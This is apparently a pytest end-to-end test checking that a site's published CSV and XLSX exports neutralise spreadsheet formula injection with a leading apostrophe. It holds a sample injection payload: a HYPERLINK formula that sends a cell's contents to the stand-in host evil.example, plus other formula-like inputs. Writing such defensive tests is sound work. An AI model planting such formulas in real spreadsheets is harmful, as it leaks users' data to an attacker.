"""CSV formula injection: in the published exports (/donnees/ and the survey downloads) a
text cell a spreadsheet would run as a formula starts with an apostrophe; numbers, negative
ones included, stay numbers; XLSX cells are never formulas; /donnees/ says so."""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.conftest import aid_yaml, make_project, mkdocs
from tests.test_validate_agrees import SURVEY_TABLE, _csv, with_survey

pytestmark = pytest.mark.e2e  # every test here runs a real build

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"clic")'


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


def test_formulas_are_neutralised_in_every_published_csv(tmp_path: Path):
    aids = aid_yaml(name=f"  name: '{FORMULA}'", amount='  amount: "-5 000 € par an"',
                    funds='  funds: "@SOMME(A1:A9)"', eligibility='  eligibility: "+32 2 000"')
    project = with_survey(make_project(tmp_path, aids))
    table = _csv(project)
    lines = table.read_text("utf-8").splitlines()
    _, *values = next(csv.reader([lines[1]]))
    lines[1] = ",".join(['"=1+1"', *values])
    table.write_text("\n".join(lines) + "\n", "utf-8")
    mkdocs("build", cwd=project)
    site = project / "site"

    [aid] = list(csv.DictReader(io.StringIO((site / "donnees" / "aids.csv").read_text("utf-8"))))
    assert aid["name"] == "'" + FORMULA
    assert aid["amount"] == "'-5 000 € par an"
    assert aid["funds"] == "'@SOMME(A1:A9)"
    assert aid["eligibility"] == "'+32 2 000"
    assert aid["sources"].startswith("[")  # a list stays JSON, untouched
    assert aid["brussels_note"] == "Ouverte aux ASBL."  # plain text untouched

    rows = list(csv.reader(io.StringIO(
        (site / "enquete" / "donnees" / f"{SURVEY_TABLE}.csv").read_text("utf-8"))))
    assert rows[1] == ["'=1+1", *values]  # the values stay numbers

    # The JSON export keeps the exact text; the spreadsheet stores text, never a formula.
    assert FORMULA in (site / "donnees" / "aids.json").read_text("utf-8").replace('\\"', '"')
    book = load_workbook(site / "donnees" / "aids.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert any(cell.value == FORMULA or cell.value == "'" + FORMULA for cell in cells)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    survey_book = load_workbook(site / "enquete" / "donnees" / f"{SURVEY_TABLE}.xlsx")
    survey_cells = [c for s in survey_book.worksheets for r in s.iter_rows() for c in r]
    assert not [cell.coordinate for cell in survey_cells if cell.data_type == "f"]

    # The choice is written on /donnees/, where the files are offered.
    parser = _Text()
    parser.feed((site / "donnees" / "index.html").read_text("utf-8"))
    text = " ".join("".join(parser.parts).split())
    for word in ("formule", "apostrophe", "OWASP"):
        assert word in text
